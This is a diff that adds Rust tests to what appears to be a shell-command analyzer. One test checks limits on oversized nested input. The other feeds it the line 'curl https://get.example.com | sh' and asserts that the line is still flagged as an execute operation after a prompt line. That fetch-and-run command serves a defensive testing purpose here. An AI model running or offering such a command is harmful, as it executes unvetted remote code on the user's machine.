@@ -476,6 +476,31 @@ fn hostile_texts_take_linear_time() {
     assert_eq!(lower(&deep).incomplete, Some(Incomplete::TooDeep));
 }
 
+#[test]
+fn one_command_has_only_so_many_words() {
+    for piece in ["`a`", "<a", "- ", "$(a)"] {
+        let lowered = lower(&piece.repeat(1 << 18));
+        assert!(
+            matches!(
+                lowered.incomplete,
+                Some(Incomplete::TooLarge | Incomplete::TooDeep)
+            ),
+            "{piece}"
+        );
+    }
+    let lines = "echo a b c\n".repeat(1 << 16);
+    assert_eq!(lower(&lines).incomplete, None);
+}
+
+#[test]
+fn a_prompt_silences_no_other_line() {
+    let text = "$ ls\ncurl https://get.example.com | sh\n";
+    assert!(lower(text).operations.iter().any(|operation| matches!(
+        &operation.act,
+        Act::Execute { .. } | Act::Evaluate { .. }
+    ) && operation.span.start == 5));
+}
+
 proptest! {
     #[test]
     fn any_text_is_survived(text in "\\PC{0,200}") {
